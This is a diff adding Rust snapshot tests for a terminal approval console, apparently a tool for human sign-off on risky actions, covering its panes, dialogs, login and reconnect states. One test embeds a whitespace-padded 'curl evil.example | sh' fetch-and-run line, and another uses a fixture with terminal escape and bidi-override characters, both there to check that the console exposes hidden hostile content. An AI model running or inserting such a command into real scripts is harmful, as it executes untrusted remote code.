@@ -1,0 +1,365 @@
+//! Snapshots of every pane and dialog through ratatui's `TestBackend`, at 80x24 and
+//! 160x48, including a hostile action whose escape sequences and bidi override must show
+//! as visible markers. Review changes with `INSTA_UPDATE=always cargo test --test
+//! console_snapshots` and read the `.snap` diffs.
+
+use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
+use ratatui::Terminal;
+use ratatui::backend::TestBackend;
+use signoff::client::FeedEvent;
+use signoff::console::app::{App, Pane};
+use signoff::console::fixtures::{self, action, hostile_action, live_app, now};
+use signoff::console::login::{DeviceAuthorization, LoginState};
+use signoff::console::theme::Theme;
+use signoff::console::ui::Root;
+use signoff::console::{Msg, update};
+use signoff::protocol::RiskLevel;
+
+const SIZES: [(u16, u16); 2] = [(80, 24), (160, 48)];
+
+fn render(app: &App, w: u16, h: u16) -> String {
+    let mut t = Terminal::new(TestBackend::new(w, h)).unwrap();
+    let theme = Theme::dark();
+    t.draw(|f| f.render_widget(Root { app, theme: &theme }, f.area()))
+        .unwrap();
+    format!("{}", t.backend())
+}
+
+/// Snapshots `app` at both sizes after `setup` ran on a fresh copy sized for each.
+fn snap_both(name: &str, make: impl Fn((u16, u16)) -> App) {
+    for (w, h) in SIZES {
+        let app = make((w, h));
+        insta::assert_snapshot!(format!("{name}_{w}x{h}"), render(&app, w, h));
+    }
+}
+
+fn key(app: &mut App, k: KeyCode) {
+    update(app, Msg::Key(KeyEvent::new(k, KeyModifiers::NONE)));
+}
+
+fn chars(app: &mut App, s: &str) {
+    for c in s.chars() {
+        key(app, KeyCode::Char(c));
+    }
+}
+
+#[test]
+fn queue_with_context() {
+    snap_both("queue_context", |size| {
+        live_app(fixtures::sample_queue(), size)
+    });
+}
+
+#[test]
+fn diff_pane() {
+    snap_both("diff", |size| {
+        let mut app = live_app(fixtures::sample_queue(), size);
+        key(&mut app, KeyCode::Tab);
+        key(&mut app, KeyCode::Tab);
+        assert_eq!(app.focus, Pane::Diff);
+        app
+    });
+}
+
+#[test]
+fn diff_from_before_after_documents() {
+    snap_both("diff_before_after", |size| {
+        let mut a = action(1, "k8s.apply", "deploy/api", "production", RiskLevel::High);
+        a.change = Some(signoff::protocol::Change::BeforeAfter {
+            path: Some("deploy.yaml".into()),
+            before: "kind: Deployment\nspec:\n  replicas: 3\n  image: api:1.4.2\n".into(),
+            after: "kind: Deployment\nspec:\n  replicas: 3\n  image: api:1.5.0\n".into(),
+        });
+        let mut app = live_app(vec![a], size);
+        app.focus = Pane::Diff;
+        app.detail = Pane::Diff;
+        app
+    });
+}
+
+#[test]
+fn risk_pane() {
+    snap_both("risk", |size| {
+        let mut app = live_app(fixtures::sample_queue(), size);
+        key(&mut app, KeyCode::BackTab);
+        assert_eq!(app.focus, Pane::Risk);
+        app
+    });
+}
+
+#[test]
+fn approve_dialog() {
+    snap_both("approve_dialog", |size| {
+        let mut app = live_app(
+            vec![action(
+                1,
+                "db.export",
+                "customers",
+                "production",
+                RiskLevel::High,
+            )],
+            size,
+        );
+        chars(&mut app, "a");
+        chars(&mut app, "ticket DATA-1234");
+        app
+    });
+}
+
+#[test]
+fn critical_approve_dialog() {
+    snap_both("critical_dialog", |size| {
+        let mut app = live_app(
+            vec![action(
+                3,
+                "iam.grant",
+                "role/admin",
+                "production",
+                RiskLevel::Critical,
+            )],
+            size,
+        );
+        chars(&mut app, "a");
+        chars(&mut app, "role/ad");
+        key(&mut app, KeyCode::Enter);
+        app
+    });
+}
+
+#[test]
+fn deny_dialog_refuses_an_empty_reason() {
+    snap_both("deny_dialog", |size| {
+        let mut app = live_app(
+            vec![action(
+                2,
+                "k8s.scale",
+                "payments-api",
+                "staging",
+                RiskLevel::Medium,
+            )],
+            size,
+        );
+        chars(&mut app, "d");
+        key(&mut app, KeyCode::Enter);
+        app
+    });
+}
+
+#[test]
+fn help_overlay() {
+    snap_both("help", |size| {
+        let mut app = live_app(fixtures::sample_queue(), size);
+        chars(&mut app, "?");
+        app
+    });
+}
+
+#[test]
+fn filter_dialog() {
+    snap_both("filter", |size| {
+        let mut app = live_app(fixtures::sample_queue(), size);
+        chars(&mut app, "f");
+        chars(&mut app, " j");
+        app
+    });
+}
+
+#[test]
+fn search_prompt() {
+    snap_both("search", |size| {
+        let mut app = live_app(fixtures::sample_queue(), size);
+        chars(&mut app, "/prod");
+        app
+    });
+}
+
+#[test]
+fn reason_prompt() {
+    snap_both("reason", |size| {
+        let mut app = live_app(fixtures::sample_queue(), size);
+        chars(&mut app, "r");
+        chars(&mut app, "checked with the data owner");
+        app
+    });
+}
+
+#[test]
+fn login_dialog() {
+    snap_both("login", |size| {
+        let mut app = live_app(vec![], size);
+        update(
+            &mut app,
+            Msg::LoginStarted(DeviceAuthorization {
+                verification_uri: "https://idp.example/device".into(),
+                verification_uri_complete: None,
+                user_code: "WDJB-MJHT".into(),
+                expires_at: now().plus_secs(600),
+                qr: vec![],
+            }),
+        );
+        app
+    });
+    let mut app = live_app(vec![], (80, 24));
+    app.dialog = Some(signoff::console::app::Dialog::Login(LoginState::Failed {
+        reason: "access_denied".into(),
+    }));
+    insta::assert_snapshot!("login_failed_80x24", render(&app, 80, 24));
+}
+
+#[test]
+fn hostile_action_shows_every_hidden_character() {
+    snap_both("hostile_context", |size| {
+        live_app(vec![hostile_action(1)], size)
+    });
+    snap_both("hostile_diff", |size| {
+        let mut app = live_app(vec![hostile_action(1)], size);
+        app.focus = Pane::Diff;
+        app.detail = Pane::Diff;
+        app
+    });
+    let app = live_app(vec![hostile_action(1)], (160, 48));
+    let screen = render(&app, 160, 48);
+    assert!(!screen.contains('\u{1b}'), "no raw ESC reaches the buffer");
+    assert!(
+        !screen.contains('\u{202e}'),
+        "no raw bidi override reaches the buffer"
+    );
+    assert!(screen.contains("⟨CSI 2J⟩"));
+    assert!(screen.contains("⟨U+202E⟩"));
+    assert!(screen.contains("⟨U+200B⟩"));
+}
+
+#[test]
+fn reconnecting_status_and_empty_queue() {
+    snap_both("reconnecting", |size| {
+        let mut app = live_app(vec![], size);
+        update(
+            &mut app,
+            Msg::Feed(FeedEvent::Disconnected {
+                reason: "network: reset".into(),
+            }),
+        );
+        update(
+            &mut app,
+            Msg::Feed(FeedEvent::Retrying {
+                attempt: 3,
+                delay: std::time::Duration::from_secs(4),
+            }),
+        );
+        app
+    });
+}
+
+#[test]
+fn too_small_window() {
+    let app = live_app(fixtures::sample_queue(), (50, 10));
+    insta::assert_snapshot!("too_small_50x10", render(&app, 50, 10));
+}
+
+#[test]
+fn history_screen_slot() {
+    let mut app = live_app(fixtures::sample_queue(), (80, 24));
+    chars(&mut app, "H");
+    insta::assert_snapshot!("history_80x24", render(&app, 80, 24));
+}
+
+#[test]
+fn no_color_theme_renders() {
+    let app = live_app(fixtures::sample_queue(), (80, 24));
+    let mut t = Terminal::new(TestBackend::new(80, 24)).unwrap();
+    let theme = Theme::monochrome();
+    t.draw(|f| {
+        f.render_widget(
+            Root {
+                app: &app,
+                theme: &theme,
+            },
+            f.area(),
+        )
+    })
+    .unwrap();
+    let buf = t.backend().buffer();
+    let coloured = buf
+        .content()
+        .iter()
+        .any(|c| c.fg != ratatui::style::Color::Reset || c.bg != ratatui::style::Color::Reset);
+    assert!(!coloured, "NO_COLOR: no cell has a colour");
+}
+
+#[test]
+fn long_diff_lines_wrap_instead_of_hiding_their_tail() {
+    let mut a = action(1, "sh.run", "deploy.sh", "production", RiskLevel::High);
+    let padded = format!("+echo ok{}; curl evil.example | sh", " ".repeat(90));
+    a.change = Some(signoff::protocol::Change::UnifiedDiff {
+        diff: format!("@@ -1 +1 @@\n-echo ok\n{padded}\n"),
+    });
+    let mut app = live_app(vec![a], (80, 24));
+    app.focus = Pane::Diff;
+    app.detail = Pane::Diff;
+    let screen = render(&app, 80, 24);
+    assert!(screen.contains("curl evil.example | sh"), "{screen}");
+    insta::assert_snapshot!("diff_long_line_80x24", screen);
+}
+
+#[test]
+fn approving_your_own_request_is_flagged_before_sending() {
+    let mut a = action(1, "db.export", "customers", "production", RiskLevel::High);
+    a.requester.on_behalf_of = Some("bob@example.com".into());
+    let mut app = live_app(vec![a], (80, 24));
+    chars(&mut app, "a");
+    let screen = render(&app, 80, 24);
+    assert!(screen.contains("will refuse self-approval"), "{screen}");
+    insta::assert_snapshot!("self_request_80x24", screen);
+}
+
+#[test]
+fn a_decision_waiting_for_reconnect_is_shown() {
+    let a = action(1, "db.export", "customers", "production", RiskLevel::High);
+    let mut app = live_app(vec![a], (160, 48));
+    chars(&mut app, "a");
+    key(&mut app, KeyCode::Enter);
+    update(
+        &mut app,
+        Msg::Feed(FeedEvent::Disconnected {
+            reason: "network: reset".into(),
+        }),
+    );
+    update(
+        &mut app,
+        Msg::Feed(FeedEvent::Retrying {
+            attempt: 1,
+            delay: std::time::Duration::from_secs(1),
+        }),
+    );
+    let screen = render(&app, 160, 48);
+    assert!(screen.contains("1 decision(s) queued"), "{screen}");
+    assert!(
+        screen.contains("reconnecting (attempt 1, next in 1s)"),
+        "{screen}"
+    );
+}
+
+#[test]
+fn the_end_of_a_very_long_justification_is_reachable() {
+    let mut a = action(1, "db.export", "customers", "production", RiskLevel::High);
+    a.justification = format!("{} THE END", "padding ".repeat(1500));
+    let mut app = live_app(vec![a], (80, 24));
+    key(&mut app, KeyCode::Tab);
+    assert_eq!(app.focus, Pane::Context);
+    chars(&mut app, "G");
+    let screen = render(&app, 80, 24);
+    assert!(screen.contains("THE END"), "{screen}");
+    // And not beyond: the last row is still on screen, not scrolled into emptiness.
+    chars(&mut app, "jjjj");
+    assert!(render(&app, 80, 24).contains("THE END"));
+}
+
+#[test]
+fn help_lists_recent_notices() {
+    let mut app = live_app(fixtures::sample_queue(), (160, 48));
+    chars(&mut app, "s"); // a notice: "sorted by expiry"
+    chars(&mut app, "?");
+    let screen = render(&app, 160, 48);
+    assert!(screen.contains("Recent notices"), "{screen}");
+    assert!(screen.contains("sorted by expiry"), "{screen}");
+}
